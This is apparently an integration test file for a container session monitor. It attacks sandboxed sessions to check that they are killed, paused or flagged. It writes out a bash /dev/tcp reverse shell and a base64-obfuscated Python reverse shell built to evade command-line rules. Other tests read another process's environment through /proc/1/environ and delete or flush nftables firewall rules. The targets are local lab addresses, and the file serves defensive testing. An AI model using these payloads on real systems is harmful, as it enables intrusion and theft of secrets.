"""The session monitor end to end: real `coi shell --background --tool dummy` sessions,
attacked from inside their container, checked the way a user would check them.

Each test runs in its own Sandbox (private HOME, container prefix, workspace owned by
uid 1000) with a config that makes the supervisor poll every 0.2 s. What is asserted is
what a user sees: the container's state in Incus (gone or stopped after a kill, Frozen
with `user.coi.monitor` after a pause), the session record (`threat`, end reason, saved
tool state) and the line in `~/.coi/audit/<container>.jsonl`.

No packet leaves this machine: reverse shells connect to a listener inside the same
container, on its own eth0 address (loopback peers are deliberately not flagged), and
network targets are the netlab namespace's addresses (tests/integration/netlab.py).
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import shlex
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from coi.errors import CoiError, IncusError
from coi.incus import exec as incus_exec
from coi.incus import instances
from coi.incus.client import Client
from coi.monitor import patterns
from coi.network import firewall
from coi.network.rules import BASE_CHAINS, REFUSE, TABLE, UNREGISTERED
from coi.session.runlock import is_supervised
from tests.integration import netlab
from tests.integration.session_support import Sandbox, sandbox, wait_until
from tests.integration.test_session_isolation import lab, write_config

__all__ = ["lab"]  # the netlab fixture (module scope, one lab on the host at a time)

pytestmark = pytest.mark.slow

POLL = 0.2
CONFIG = f"[monitoring]\npoll_interval_sec = {POLL}\n"
PRIVATE = netlab.BLOCKED["rfc1918-10"]
MARKER = "user.coi.monitor"
QUIET = "</dev/null >/dev/null 2>&1 &"
# A listener on the container's own address that accepts one connection and keeps it.
LISTENER = ('$s=IO::Socket::INET->new(LocalAddr=>"{ip}",LocalPort=>{port},Listen=>1,'
            "ReuseAddr=>1) or die; $c=$s->accept; sleep 300")
DEV_TCP_SHELL = "exec 3<>/dev/tcp/{ip}/{port}; exec bash -i <&3 >&3 2>&3"
# The obfuscated one: nothing on its command line says "socket"; only its descriptors do.
PAYLOAD = ("import os, socket, subprocess\n"
           "s = socket.socket()\n"
           "s.connect(({ip!r}, {port}))\n"
           "for fd in (0, 1, 2):\n"
           "    os.dup2(s.fileno(), fd)\n"
           "subprocess.call(['/bin/sh', '-i'])\n")
# A connect to the lab (python: a /dev/tcp probe is itself a reverse-shell pattern).
PROBE = ("import socket, sys\n"
         "s = socket.create_connection((sys.argv[1], int(sys.argv[2])), float(sys.argv[3]))\n"
         "sys.stdout.write(s.recv(5).decode())\n")


# -- fixtures and helpers -----------------------------------------------------------------


@pytest.fixture
def box(incus: Client, test_image: str, tmp_path: Path) -> Iterator[Sandbox]:
    """A sandbox; its containers (frozen ones too) are force-deleted at the end, and its
    fork server is told to leave (it does once its socket is gone) instead of idling for
    minutes in a test directory pytest keeps."""
    try:
        with sandbox(incus, test_image, tmp_path, owner=1000) as made:
            yield made
    finally:
        for sock in (tmp_path / "home" / ".coi" / "run").glob("forkserver-*"):
            sock.unlink(missing_ok=True)


def start(box: Sandbox, config: str = CONFIG) -> str:
    """A background session of the dummy tool, supervised, with one message in its
    conversation (so there is session data to save). Returns the container name."""
    write_config(box, config)
    result = box.coi("shell", "--tool", "dummy", "--background")
    assert result.returncode == 0, result.stderr.decode(errors="replace")
    name = box.name()
    wait_until(lambda: is_supervised(box.coi_home, name), 20, f"a supervisor for {name}")
    # The tool starts before its supervisor: wait until the monitor runs and has primed
    # its counters (what was read before that is deliberately not counted).
    log = box.coi_home / "logs" / f"supervisor-{name}.log"
    wait_until(lambda: log.exists() and f"monitoring {name} every" in log.read_text(), 20,
               f"the monitor of {name} to start")
    time.sleep(3 * POLL)
    say(box, name, "hello monitor")
    box.wait_screen(name, "Dummy: you said: hello monitor")
    return name


def say(box: Sandbox, name: str, text: str) -> None:
    """Type a line into the tool, as the user would."""
    done = box.sh(name, f"tmux send-keys -t =coi-{name}: {shlex.quote(text)} Enter")
    assert done.exit_code == 0, done


def address(box: Sandbox, name: str) -> str:
    wait_until(lambda: instances.state(box.client, name).ipv4, 30, f"an IPv4 address of {name}")
    return str(instances.state(box.client, name).ipv4[0])


def background(box: Sandbox, name: str, argv: list[str], *, root: bool = False) -> None:
    """Start `argv` detached inside the container (its own session, no terminal)."""
    done = box.sh(name, f"setsid {shlex.join(argv)} {QUIET}", root=root)
    assert done.exit_code == 0, done


def attack(box: Sandbox, name: str, argv: list[str], *, root: bool = False) -> None:
    """Start `argv` like `background`, where the monitor may kill everything before the
    exec that starts it returns (137, or the exec cut off with the container)."""
    try:
        done = box.sh(name, f"setsid {shlex.join(argv)} {QUIET}", root=root)
    except CoiError:
        return
    assert done.exit_code in (0, 137), done


def listen(box: Sandbox, name: str, ip: str, port: int) -> None:
    code = LISTENER.format(ip=ip, port=port)
    background(box, name, ["perl", "-MIO::Socket::INET", "-e", code])
    # A connect would take the listener's one accept: look for the port with ss instead.
    wait_until(lambda: f"{ip}:{port}" in box.sh(name, "ss -ltn").stdout.decode(), 10,
               f"the listener on {ip}:{port}", interval=0.05)


def audit(box: Sandbox, name: str) -> list[dict[str, Any]]:
    path = box.coi_home / "audit" / f"{name}.jsonl"
    try:
        lines = path.read_text().splitlines()
    except FileNotFoundError:
        return []
    events = []
    for line in lines:
        with contextlib.suppress(ValueError):
            events.append(json.loads(line))
    return events


def wait_event(box: Sandbox, name: str, match: Callable[[dict[str, Any]], bool],
               timeout: float, what: str) -> dict[str, Any]:
    found: list[dict[str, Any]] = []

    def seen() -> bool:
        found[:] = [e for e in audit(box, name) if match(e)]
        return bool(found)

    try:
        wait_until(seen, timeout, what, interval=0.05)
    except pytest.fail.Exception:
        lines = "\n".join(json.dumps(e) for e in audit(box, name)) or "(none)"
        log = box.coi_home / "logs" / f"supervisor-{name}.log"
        tail = log.read_text()[-3000:] if log.exists() else "(no supervisor log)"
        pytest.fail(f"timed out: {what}\naudit lines:\n{lines}\nsupervisor log:\n{tail}")
    return found[0]


def marker(box: Sandbox, name: str) -> dict[str, Any] | None:
    text = instances.get(box.client, name).config.get(MARKER)
    return json.loads(text) if text else None


def detector(name: str) -> Callable[[dict[str, Any]], bool]:
    return lambda event: event.get("detector") == name


def assert_killed_and_saved(box: Sandbox, name: str, detector_name: str) -> None:
    """The container is stopped or gone, and the session's data was saved, marked."""
    wait_until(lambda: box.status(name) in ("Gone", "Stopped"), 30, f"{name} killed")
    box.wait_closed(name)
    record = box.only_session()
    assert record.threat is not None, record
    assert record.threat["detector"] == detector_name
    assert record.threat["action"] == "killed"
    assert record.threat["severity"] == "critical"
    assert record.ended and record.end_reason == "threat", record
    assert record.has_state and record.saved_at, record
    saved = box.store.state_dir("dummy", record.session_id)
    conversation = saved / "projects" / "-workspace" / f"{record.session_id}.jsonl"
    assert "hello monitor" in conversation.read_text()


def connect(box: Sandbox, name: str, timeout: float = 3) -> netlab.Attempt:
    """A TCP connect from inside the container to the lab's private address, counted
    only if the lab's greeting comes back. A frozen container connects nowhere (and an
    exec into it would hang). Python, not bash's /dev/tcp: that is a reverse-shell
    pattern the monitor kills for."""
    if box.status(name) != "Running":
        return netlab.Attempt(False, 0.0, -1, f"the container is {box.status(name)}")
    started = time.monotonic()
    try:
        result = incus_exec.run(box.client, name,
                                ["python3", "-c", PROBE, PRIVATE, str(netlab.NS_PORT),
                                 str(timeout)], user=1000, group=1000,
                                env={"HOME": "/home/code"}, timeout=timeout + 15)
    except IncusError as exc:
        return netlab.Attempt(False, time.monotonic() - started, -1, str(exc))
    return netlab.Attempt(result.stdout == netlab.GREETING, time.monotonic() - started,
                          result.exit_code, result.stderr.decode(errors="replace").strip())


def nft_json() -> list[dict[str, Any]]:
    out = subprocess.run(["nft", "-j", "-a", "list", "table", *TABLE.split()],
                         capture_output=True, text=True, check=True).stdout
    items: list[dict[str, Any]] = json.loads(out)["nftables"]
    return items


def private_rule(name: str) -> tuple[str, int] | None:
    """(chain, handle) of the rule refusing IPv4 private ranges for `name`'s traffic."""
    for item in nft_json():
        rule = item.get("rule")
        if not rule or not rule["chain"].startswith("f") or not rule["chain"].endswith(name):
            continue
        text = json.dumps(rule["expr"])
        if rule.get("comment") == "private" and "10.0.0.0" in text and "goto" in text:
            return rule["chain"], int(rule["handle"])
    return None


def skeleton_duplicates() -> list[tuple[str, int]]:
    """(chain, handle) of every rule of the table's shared part beyond its one expected
    copy: a second `refuse` rule set, a second catch-all in a base chain."""
    seen: set[tuple[str, str]] = set()
    extra = []
    for item in nft_json():
        rule = item.get("rule")
        if not rule:
            continue
        shared = rule["chain"] == REFUSE or (
            rule["chain"] in BASE_CHAINS and rule.get("comment") == UNREGISTERED)
        if not shared:
            continue
        body = (rule["chain"], json.dumps([e for e in rule["expr"] if "counter" not in e],
                                          sort_keys=True))
        if body in seen:
            extra.append((rule["chain"], int(rule["handle"])))
        seen.add(body)
    return extra


@contextlib.contextmanager
def table_restored() -> Iterator[None]:
    """Whatever a test did to the shared table, its skeleton (base chains, refuse chain,
    catch-all for unregistered containers) is back afterwards, once: only what is missing
    is added, after the supervisors had their turn, and second copies are removed (other
    sessions on this host would see them as tampering)."""
    try:
        yield
    finally:
        time.sleep(1)
        with contextlib.suppress(Exception):
            firewall.prepare_table()
        for chain, handle in skeleton_duplicates():
            subprocess.run(["nft", "delete", "rule", *TABLE.split(), chain, "handle",
                            str(handle)], capture_output=True, check=False)


def integrity_repair_or_pause(box: Sandbox, name: str, broken_at: float) -> dict[str, Any]:
    """Wait for the policy_integrity audit line; check it came within 2 s of the damage
    and that afterwards no connection reaches the coi-owned target."""
    event = wait_event(box, name, detector("policy_integrity"), 10,
                       "a policy_integrity audit line")
    elapsed = time.monotonic() - broken_at
    assert event["action"] in ("repaired", "paused"), event
    assert elapsed <= 2.0, f"policy repaired/paused after {elapsed:.2f} s"
    print(f"policy integrity: {event['action']} after {elapsed:.2f} s")
    if event["action"] == "paused":
        assert box.status(name) == "Frozen"
        state = marker(box, name)
        assert state is not None and state["detector"] == "policy_integrity", state
    else:
        assert box.status(name) == "Running"
    attempt = connect(box, name)
    assert not attempt.ok, f"the lab address is reachable after the repair: {attempt}"
    return event


# -- the "Done when" tests ----------------------------------------------------------------


def test_reverse_shell_is_killed_and_the_session_saved(box: Sandbox) -> None:
    name = start(box)
    ip = address(box, name)
    listen(box, name, ip, 4444)
    started = time.monotonic()
    attack(box, name, ["bash", "-c", DEV_TCP_SHELL.format(ip=ip, port=4444)])

    event = wait_event(box, name, detector("reverse_shell"), 20, "a reverse_shell audit line")
    assert event["severity"] == "critical", event
    assert event["action"] == "killed", event
    assert event["container"] == name
    assert_killed_and_saved(box, name, "reverse_shell")
    print(f"reverse shell: container {box.status(name)} "
          f"{time.monotonic() - started:.2f} s after the shell started")


def test_obfuscated_reverse_shell_is_caught_by_its_descriptors(box: Sandbox) -> None:
    name = start(box)
    ip = address(box, name)
    listen(box, name, ip, 4445)
    encoded = base64.b64encode(PAYLOAD.format(ip=ip, port=4445).encode()).decode()
    argv = ["python3", "-c", f"import base64; exec(base64.b64decode('{encoded}'))"]
    # No command-line rule can see it: only the socket on its stdin/stdout gives it away.
    assert patterns.match_rules(patterns.REVERSE_SHELL_RULES, " ".join(argv)) is None
    attack(box, name, argv)

    event = wait_event(box, name, detector("reverse_shell"), 20, "a reverse_shell audit line")
    assert event["severity"] == "critical" and event["action"] == "killed", event
    evidence = event["evidence"]
    assert "socket" in evidence["reason"], evidence
    assert evidence["socket"]["remote"] == f"{ip}:4445", evidence
    assert "pattern" not in evidence, "caught by a command line rule, not the descriptors"
    assert_killed_and_saved(box, name, "reverse_shell")


def test_environ_scan_pauses_until_unfreeze(box: Sandbox) -> None:
    name = start(box)
    # A process holding another process's environment open (as an agent with sudo could),
    # from a script file: the exec that starts it names no environ (it would be frozen
    # mid-exec), so the held descriptor is what the monitor finds.
    scan = "echo $$ > /tmp/scan.pid; exec 3</proc/1/environ; exec sleep 600\n"
    encoded = base64.b64encode(scan.encode()).decode()  # its writer names no environ
    wrote = box.sh(name, f"echo {encoded} | base64 -d > /tmp/scan.sh", root=True)
    assert wrote.exit_code == 0, wrote
    attack(box, name, ["sh", "/tmp/scan.sh"], root=True)

    event = wait_event(box, name, detector("env_scan"), 20, "an env_scan audit line")
    assert event["severity"] == "high" and event["action"] == "paused", event
    wait_until(lambda: box.status(name) == "Frozen", 10, f"{name} frozen")
    state = marker(box, name)
    assert state is not None, f"{MARKER} is not set"
    assert state["state"] == "paused" and state["detector"] == "env_scan", state
    record = box.only_session()
    assert record.threat is not None and record.threat["action"] == "paused", record
    assert record.threat["detector"] == "env_scan"
    assert not record.ended

    result = box.coi("unfreeze", name)
    assert result.returncode == 0, result.stderr.decode(errors="replace")
    assert box.status(name) == "Running"
    assert marker(box, name) is None, f"{MARKER} is still set after coi unfreeze"
    unfrozen = wait_event(box, name, lambda e: e.get("action") == "unfrozen", 5,
                          "an `unfrozen` audit line")
    assert unfrozen["detector"] == "user" and unfrozen["severity"] == "info", unfrozen
    killed = box.sh(name, "kill $(cat /tmp/scan.pid)", root=True)
    assert killed.exit_code == 0, killed
    time.sleep(5 * POLL)
    assert box.status(name) == "Running", "paused again after coi unfreeze"
    say(box, name, "still here")
    box.wait_screen(name, "Dummy: you said: still here")


def test_reading_200_mb_of_the_workspace_warns(box: Sandbox) -> None:
    # 200 MB against a threshold of 100 MB: a warning (4x the threshold would be HIGH).
    # The rate limit is set out of reach so the cumulative check is what fires.
    name = start(box, CONFIG + "file_read_threshold_mb = 100\n"
                               "file_read_rate_mb_per_sec = 2000\n")
    big = box.workspace / "big.bin"
    block = b"\0" * (1 << 20)
    with open(big, "wb") as out:
        for _ in range(200):
            out.write(block)
    os.chown(big, 1000, 1000)
    # The agent reads it through its own tool, as an agent would.
    say(box, name, "run cat /workspace/big.bin > /dev/null")
    box.wait_screen(name, "Dummy: exit code 0")

    event = wait_event(box, name, detector("file_read"), 10, "a file_read audit line")
    assert event["severity"] == "warning", event
    assert event["action"] == "alerted", event
    assert box.status(name) == "Running"
    assert box.only_session().threat is None


def test_connection_to_a_private_address_is_a_network_event(box: Sandbox,
                                                             lab: netlab.Lab) -> None:
    name = start(box)
    attempt = connect(box, name)
    assert not attempt.ok, f"restricted mode let {PRIVATE} through: {attempt}"

    event = wait_event(box, name, lambda e: PRIVATE in json.dumps(e.get("evidence")), 10,
                       f"an audit line about {PRIVATE}")
    assert event["detector"] == "network", event
    assert event["severity"] == "warning" and event["action"] == "alerted", event
    assert event["container"] == name
    evidence = event["evidence"]
    assert (evidence["dst"], evidence["dport"]) == (PRIVATE, netlab.NS_PORT), evidence
    assert evidence["reason"] == "private" and evidence["refused"], evidence
    assert box.status(name) == "Running"


def test_deleted_rule_is_repaired_or_paused(box: Sandbox, lab: netlab.Lab) -> None:
    name = start(box)
    assert not connect(box, name).ok, "blocked before the rule is deleted"
    found = private_rule(name)
    assert found is not None, f"no 'private' rule for {name} in {TABLE}"
    chain, handle = found
    with table_restored():
        subprocess.run(["nft", "delete", "rule", *TABLE.split(), chain, "handle", str(handle)],
                       check=True)
        integrity_repair_or_pause(box, name, time.monotonic())


def test_flushed_table_is_repaired_or_paused(box: Sandbox, lab: netlab.Lab) -> None:
    name = start(box)
    assert not connect(box, name).ok, "blocked before the table is flushed"
    with table_restored():
        subprocess.run(["nft", "flush", "table", *TABLE.split()], check=True)
        integrity_repair_or_pause(box, name, time.monotonic())
        # Every supervisor on this host repairs the shared part at once: one copy must
        # come out of it (a second one reads as tampering to every other session).
        time.sleep(1)
        assert skeleton_duplicates() == [], "the table's shared part was restored twice"
